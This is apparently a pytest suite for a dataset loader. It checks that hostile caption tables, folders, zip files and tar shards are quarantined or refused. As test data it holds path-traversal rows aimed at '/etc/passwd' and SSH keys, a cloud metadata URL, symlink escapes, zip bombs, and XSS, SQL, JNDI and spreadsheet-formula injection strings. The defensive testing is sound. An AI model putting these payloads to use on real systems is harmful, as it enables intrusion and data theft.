"""What an attacker, or a careless export, can put into a file of pairs: each is named in the quarantine or refused,
none is fatal or run.
"""

import io
import os
import pickle
import stat
import struct
import tarfile
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from ingested import encoded, folder, packed, shard

from ubt.core.errors import BadInput
from ubt.data import catalogue
from ubt.data.images import sift
from ubt.data.quarantine import REASONS

GOOD = b"images/0.png,good\n"

ROWS = {
    "missing file": (b"images/nosuch.png,a cat\n", "missing file"),
    "leads up": (b"../../../etc/passwd,a cat\n", "path leaves the root"),
    "leads up in the middle": (b"images/../../x.png,a cat\n", "path leaves the root"),
    "leads up with backslashes": (b"..\\..\\x.png,a cat\n", "path leaves the root"),
    "absolute": (b"/etc/passwd,a cat\n", "path leaves the root"),
    "drive letter": (b"C:\\Windows\\win.ini,a cat\n", "path leaves the root"),
    "home": (b"~/.ssh/id_rsa,a cat\n", "path leaves the root"),
    "share": (b"\\\\server\\share\\x.png,a cat\n", "path leaves the root"),
    "address": (b"http://169.254.169.254/latest/meta-data,a cat\n", "web address"),
    "file address": (b"file:///etc/passwd,a cat\n", "web address"),
    "data address": (b"data:image/svg+xml;base64;PHN2Zz4=,a cat\n", "web address"),
    "a folder": (b"images,a cat\n", "not a regular file"),
    "a pipe, that never ends": (b"pipe.png,a cat\n", "not a regular file"),
    "a link that leaves": (b"link.png,a cat\n", "path leaves the root"),
    "a folder link that leaves": (b"out/secret.png,a cat\n", "path leaves the root"),
    "a link to itself": (b"loop.png,a cat\n", "path leaves the root|missing file"),
    "no name": (b",a cat\n", "unusable name"),
    "only a dot": (b".,a cat\n", "unusable name"),
    "NUL in the name": (b"images/0.png\0.txt,a cat\n", "unusable name"),
    "escape sequence in the name": (b"images/\x1b[2J0.png,a cat\n", "unusable name"),
    "bad bytes in the name": (b"images/\xff.png,a cat\n", "unusable name"),
    "right-to-left override in the name": ("images/\u202egnp.0,a cat\n".encode(), "unusable name"),
    "a very long name": (b"a" * 5000 + b",a cat\n", "unusable name"),
    "names as deep as nothing": (b"a/" * 499 + b",a cat\n", "missing file"),
    "no caption": (b"images/0.png,\n", "empty caption"),
    "blanks": (b'images/0.png," \t "\n', "empty caption"),
    "invisible characters": ("images/0.png,\u200b\u200d\ufeff\n".encode(), "empty caption"),
    "bad bytes": (b"images/0.png,caf\xe9\n", "undecodable caption"),
    "lone surrogate": (b"images/0.png,a \xed\xa0\x80 cat\n", "undecodable caption"),
    "overlong bytes": (b"images/0.png,\xc0\xaf\n", "undecodable caption"),
    "NUL": (b"images/0.png,a\0cat\n", "control characters"),
    "terminal escape": (b"images/0.png,\x1b]0;title\x07\n", "control characters"),
    "text turned round": ("images/0.png,a \u202etac\n".encode(), "control characters"),
    "text isolated": ("images/0.png,a \u2066cat\n".encode(), "control characters"),
    "a book": (b"images/0.png," + b"word " * 3000 + b"\n", "caption too long"),
    "one field": (b"images/0.png\n", "ragged row"),
    "three fields": (b"images/0.png,a,b\n", "ragged row"),
    "a quote that is not closed": (b'images/0.png,"never closed\n', "unclosed quote|ragged row"),
    "a field past the reader's limit": (b"images/0.png," + b"x" * 140_000 + b"\n", "row too long"),
    "a line past any limit": (b"images/0.png," + b"x" * 3_000_000 + b"\n", "row too long"),
}


@pytest.fixture
def surroundings(tmp_path) -> Path:
    """A folder with images, and around it what must not be reached."""
    root = tmp_path / "root"
    folder(root)
    (tmp_path / "secret.png").write_bytes(encoded())
    (root / "link.png").symlink_to(tmp_path / "secret.png")
    (root / "loop.png").symlink_to("loop.png")
    (root / "out").symlink_to(tmp_path)
    os.mkfifo(root / "pipe.png")
    return root


def outcome(read: dict, good: int) -> pd.DataFrame:
    """The quarantine, once the good pairs are there and everything can be written down."""
    assert read["pairs"]["caption"].tolist() == ["good"] * good
    quarantine = read["quarantine"]
    assert set(quarantine["reason"]) <= set(REASONS)
    assert quarantine["reason"].value_counts().to_dict() == read["about"]["quarantined"]
    quarantine.to_csv(io.StringIO())
    assert all(text.isprintable() and len(text) <= 600 for c in ("image", "caption") for text in quarantine[c])
    return quarantine


@pytest.mark.parametrize("name", ROWS)
def test_a_hostile_row_costs_itself_only(surroundings, name):
    row, reason = ROWS[name]
    path = surroundings / "captions.csv"
    path.write_bytes(b"image,caption\n" + GOOD + row + GOOD * 2)
    quarantine = outcome(catalogue.read(path), 3)
    assert quarantine["row"].tolist() == [2]
    assert quarantine["reason"][0] in reason.split("|")


def test_all_of_them_in_one_file(surroundings):
    path = surroundings / "captions.csv"
    path.write_bytes(b"image,caption\n" + b"".join(GOOD + row for row, _ in ROWS.values()))
    read = catalogue.read(path)
    assert read["about"]["read"] == 2 * len(ROWS)
    assert outcome(read, len(ROWS))["row"].tolist() == list(range(2, 2 * len(ROWS) + 1, 2))


CAPTIONS = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil","x")&cmd|\' /C calc\'!A0',
    "markdown": "[a](javascript:alert(1)) ![x](http://evil/x.png) $\\href{javascript:x}{y}$",
    "template": "{{7*7}} ${jndi:ldap://evil} %n%s {0.__class__}",
    "right to left": "قطة على السجادة",
    "joined emoji": "👩‍👩‍👧 a family",
    "stacked marks": "z" + "\u0301" * 60,
    "sql": "'; DROP TABLE pairs; --",
}


@pytest.mark.parametrize("name", CAPTIONS)
def test_captions_that_are_only_text_stay_as_they_are(tmp_path, name):
    quoted = CAPTIONS[name].replace('"', '""')
    read = catalogue.read(folder(tmp_path, [("images/0.png", quoted)]))
    assert read["pairs"]["caption"].tolist() == [CAPTIONS[name]]


TABLES = {
    "empty": b"",
    "blank": b"\n\n",
    "a header only": b"image,caption\n",
    "no row is good": b"image,caption\n../x,a\n,b\n",
    "UTF-16": "image,caption\nimages/0.png,a\n".encode("utf-16"),
    "a binary": b"\x7fELF\x02\x01\x01\0" + bytes(range(256)),
    "a pickle": pickle.dumps({"image": ["a"]}),
    "no columns we know": b"a,b\n1,2\n",
    "the image column twice": b"image,image,caption\na,b,c\n",
    "no end of the first line": b"x" * 3_000_000,
    "html": b"<!doctype html><script>alert(1)</script>\n",
}


@pytest.mark.parametrize("name", TABLES)
def test_hostile_tables_are_refused(tmp_path, name):
    with pytest.raises(BadInput, match="expected"):
        catalogue.read(folder(tmp_path, table=TABLES[name]))


@pytest.mark.parametrize("own", [b"a", b"", b"\x1b[2J", b"x" * 500])
def test_ids_of_ones_own_must_be_usable_and_unique(tmp_path, own):
    table = b"id,image,caption\na,images/0.png,good\n" + own + b",images/1.png,cat\n"
    quarantine = outcome(catalogue.read(folder(tmp_path, table=table)), 1)
    assert quarantine["reason"].tolist() == ["duplicate id" if own == b"a" else "unusable id"]


def info(name: str, mode: int = 0o644 | stat.S_IFREG, how: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    made = zipfile.ZipInfo(name)
    made.create_system, made.external_attr, made.compress_type = 3, mode << 16, how
    return made


MEMBERS = {
    "leads up": ("../evil.png", encoded(), "path leaves the root"),
    "absolute": ("/etc/cron.d/evil.png", encoded(), "path leaves the root"),
    "drive letter": ("C:/evil.png", encoded(), "path leaves the root"),
    "backslashes": ("..\\evil.png", encoded(), "path leaves the root"),
    "a link": (info("evil.png", stat.S_IFLNK | 0o777), b"/etc/passwd", "link in an archive"),
    "a device": (info("evil.png", stat.S_IFCHR | 0o666), b"", "not a regular file"),
    "a pipe": (info("evil.png", stat.S_IFIFO | 0o666), b"", "not a regular file"),
    "control characters": ("evil\x1b[2J.png", encoded(), "unusable name"),
    "a bomb": ("evil.png", b"\0" * (8 << 20), "compressed too much"),
    "a large bomb": ("evil.png", b"\0" * (65 << 20), "too large"),
    "another compression": (info("evil.png", how=zipfile.ZIP_LZMA), encoded(), "locked member"),
    "a very long name": ("a" * 2000 + ".png", encoded(), "unusable name"),
}


@pytest.mark.parametrize("name", MEMBERS)
def test_hostile_members_of_a_zip_are_named_and_never_read(tmp_path, name, monkeypatch):
    monkeypatch.setattr(zipfile.ZipFile, "extract", lambda *a: pytest.fail("something was extracted"))
    member, data, reason = MEMBERS[name]
    there = member if isinstance(member, str) else member.filename
    table = b"image,caption\n" + GOOD + f'"{there}",evil\n'.encode()
    path = packed(tmp_path / "z.zip", [("images/0.png", encoded()), (member, data), ("captions.csv", table)])
    read = catalogue.read(path)
    assert reason in outcome(read, 1)["reason"].tolist()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["z.zip"]
    assert sift(catalogue.open_images(read["about"], [read["pairs"]["image"][0], there], 8), [0, 1]).keys() == {1}


@pytest.mark.parametrize("name", [b"\0vil.png", b"evil\0png", b"evil.p\xff\n"])
def test_names_that_a_zip_cannot_have_are_named(tmp_path, name):
    path = packed(
        tmp_path / "z.zip",
        [("images/0.png", encoded()), ("evil.png", encoded()), ("captions.csv", b"image,caption\n" + GOOD)],
    )
    path.write_bytes(path.read_bytes().replace(b"evil.png", name))
    assert outcome(catalogue.read(path), 1)["reason"].tolist() == ["unusable name"]


def test_members_twice_encrypted_overlapping_or_with_another_checksum(tmp_path):
    with pytest.warns(UserWarning, match="Duplicate name"):
        path = packed(
            tmp_path / "twice.zip",
            [
                ("images/0.png", encoded()),
                ("a.png", b"1"),
                ("a.png", b"2"),
                ("captions.csv", b"image,caption\n" + GOOD + b"a.png,x\n"),
            ],
        )
    assert set(outcome(catalogue.read(path), 1)["reason"]) == {"duplicate member"}
    members = [
        ("a.png", encoded(1)),
        ("b.png", encoded(2)),
        ("images/0.png", encoded()),
        ("captions.csv", b"image,caption\n" + GOOD + b"a.png,x\nb.png,x\n"),
    ]
    plain = packed(tmp_path / "plain.zip", members, zipfile.ZIP_STORED).read_bytes()
    at = plain.index(b"PK\1\2")
    other = plain.index(b"PK\1\2", at + 4)
    locked = plain[: at + 8] + b"\1\0" + plain[at + 10 :]
    (tmp_path / "locked.zip").write_bytes(locked)
    changed = catalogue.read(tmp_path / "plain.zip", catalogue.SourceOptions(limit=1))
    assert changed["about"]["kept"] == 1
    (tmp_path / "overlap.zip").write_bytes(plain[: other + 42] + struct.pack("<I", 4) + plain[other + 46 :])
    for name, reason in (("locked", "locked member"), ("overlap", "overlapping members")):
        read = catalogue.read(tmp_path / f"{name}.zip", catalogue.SourceOptions(limit=2))
        assert set(read["quarantine"]["reason"]) == {reason}, name
        assert "good" in read["pairs"]["caption"].tolist()
    flipped = plain.replace(encoded(1)[-30:], b"\0" * 30, 1)
    (tmp_path / "flipped.zip").write_bytes(flipped)
    read = catalogue.read(tmp_path / "flipped.zip")
    assert read["quarantine"][["image", "reason"]].to_numpy().tolist() == [["a.png", "damaged archive"]]


ZIPS = {
    "not one": b"hello",
    "half of one": None,
    "a lying directory": b"PK\5\6" + b"\0" * 8 + struct.pack("<IIH", 0xF0000000, 0, 0),
    "an empty one": b"PK\5\6" + b"\0" * 18,
    "its directory elsewhere": b"PK\3\4" + b"PK\5\6" + b"\0" * 8 + struct.pack("<IIH", 46, 9999, 0),
}


@pytest.mark.parametrize("name", ZIPS)
def test_hostile_zips_are_refused(tmp_path, name):
    whole = packed(
        tmp_path / "a.zip", [("captions.csv", b"image,caption\n" + GOOD), ("images/0.png", encoded())]
    ).read_bytes()
    (tmp_path / "b.zip").write_bytes(ZIPS[name] or whole[:-30])
    with pytest.raises(BadInput, match="expected"):
        catalogue.read(tmp_path / "b.zip")


def test_a_table_that_unpacks_to_a_bomb_is_refused(tmp_path):
    path = packed(tmp_path / "a.zip", [("captions.csv", b"image,caption\n" + b"\n" * (65 << 20))])
    with pytest.raises(BadInput, match="compressed too much"):
        catalogue.read(path)


def tarred(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname = kind, link
    return made


SAMPLES = {
    "leads up": ([("../../evil.png", encoded()), ("../../evil.txt", b"x")], "path leaves the root"),
    "absolute": ([("/evil.png", encoded()), ("/evil.txt", b"x")], "path leaves the root"),
    "a link": ([(tarred("evil.png", tarfile.SYMTYPE, "/etc/passwd"), b""), ("evil.txt", b"x")], "link in an archive"),
    "a hard link": (
        [(tarred("evil.png", tarfile.LNKTYPE, "../secret"), b""), ("evil.txt", b"x")],
        "link in an archive",
    ),
    "a device": ([(tarred("evil.png", tarfile.CHRTYPE), b""), ("evil.txt", b"x")], "not a regular file"),
    "a pipe": ([(tarred("evil.png", tarfile.FIFOTYPE), b""), ("evil.txt", b"x")], "not a regular file"),
    "control characters": ([("evil\n\x1b.png", encoded()), ("evil.txt", b"x")], "unusable name"),
    "no caption": ([("evil.png", encoded())], "image without caption"),
    "no image": ([("evil.txt", b"x")], "caption without image"),
    "the same again": ([("evil.png", encoded()), ("evil.png", encoded()), ("evil.txt", b"\0")], "duplicate member"),
    "the same key again": ([("good.png", encoded()), ("good.txt", b"good")], "duplicate member"),
    "the same key later": ([("x.txt", b"x"), ("good.png", encoded()), ("good.txt", b"good")], "duplicate id"),
    "bad bytes": ([("evil.png", encoded()), ("evil.txt", b"\xff\xfe")], "undecodable caption"),
    "a caption of 2 MiB": ([("evil.png", encoded()), ("evil.txt", b"x" * (2 << 20))], "caption too long"),
    "JSON without an end": ([("evil.png", encoded()), ("evil.json", b"[" * 200_000)], "undecodable caption"),
    "JSON with another caption": (
        [("evil.png", encoded()), ("evil.json", b'{"caption": {"a": [1]}}')],
        "caption not text",
    ),
    "half a surrogate in JSON": (
        [("evil.png", encoded()), ("evil.json", b'{"caption": "\\ud800"}')],
        "undecodable caption",
    ),
    "JSON without a caption": ([("evil.png", encoded()), ("evil.json", b'{"url": "x"}')], "empty caption"),
}


@pytest.mark.parametrize("name", SAMPLES)
def test_hostile_members_of_a_shard_are_named(tmp_path, name):
    members, reason = SAMPLES[name]
    path = shard(tmp_path / "a.tar", [("good.png", encoded()), ("good.txt", b"good"), *members])
    read = catalogue.read(path)
    assert reason in outcome(read, 1)["reason"].tolist()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.tar"]


def header(name: bytes, size: bytes, kind: bytes = b"0") -> bytes:
    block = bytearray(
        name.ljust(100, b"\0")
        + b"0000644\0"
        + b"0000000\0" * 2
        + size.ljust(12, b"\0")
        + b"0" * 11
        + b"\0"
        + b" " * 8
        + kind
    )
    block = bytearray(bytes(block).ljust(257, b"\0") + b"ustar\x0000").ljust(512, b"\0")
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


ENDINGS = {
    "cut in the middle of an image": ("cut", "cut off"),
    "a size that leads back": (header(b"x.png", b"\xff" * 11 + b"\x00"), "damaged archive"),
    "a size past the end": (header(b"x.png", b"77777777777"), "cut off"),
    "a header of 4 GiB": (header(b"x", b"40000000000", b"x"), "damaged archive"),
    "a long name of 1 GiB": (header(b"x", b"10000000000", b"L"), "damaged archive"),
    "garbage": (b"\x13garbage" * 128, "damaged archive"),
}


@pytest.mark.parametrize("name", ENDINGS)
def test_damaged_shards_give_what_came_before(tmp_path, name):
    ending, reason = ENDINGS[name]
    path = shard(tmp_path / "a.tar", [("good.png", encoded()), ("good.txt", b"good"), ("x.png", encoded(1))])
    whole = path.read_bytes()
    third = whole.index(b"x.png\0")
    path.write_bytes(whole[: third + 700] if ending == "cut" else whole[:third] + ending)
    found = outcome(catalogue.read(path), 1)["reason"].tolist() or [""]
    assert set(found) & set(reason.split("|"))


@pytest.mark.parametrize(
    "data", [b"", b"\x1f\x8b" + b"\0" * 600, b"hello" * 300, header(b"x.png", b"\xff" * 11 + b"\0")]
)
def test_what_is_no_shard_is_refused(tmp_path, data):
    (tmp_path / "a.tar").write_bytes(data)
    with pytest.raises(BadInput, match="expected"):
        catalogue.read(tmp_path / "a.tar")


def test_a_sidecar_that_links_out_is_no_caption(tmp_path):
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "secret.txt").write_text("the password")
    for name in ("good", "evil", "alone"):
        (root / f"{name}.png").write_bytes(encoded())
    (root / "good.txt").write_text("good")
    (root / "evil.txt").symlink_to(tmp_path / "secret.txt")
    (root / "stray.txt").write_text("x")
    quarantine = outcome(catalogue.read(root), 1)
    assert dict(zip(quarantine["image"], quarantine["reason"], strict=True)) == {
        "evil.png": "path leaves the root",
        "alone.png": "image without caption",
        "stray.txt": "caption without image",
    }


@pytest.mark.parametrize(
    "pattern", ["{0..99999999999}.tar", "{0..999999999}.tar", "{a{b.tar", "{0..999}{0..999}.tar", "[*.tar", "*"]
)
def test_patterns_that_would_not_end_are_refused(tmp_path, pattern):
    with pytest.raises(BadInput, match="expected"):
        catalogue.read(tmp_path / pattern)
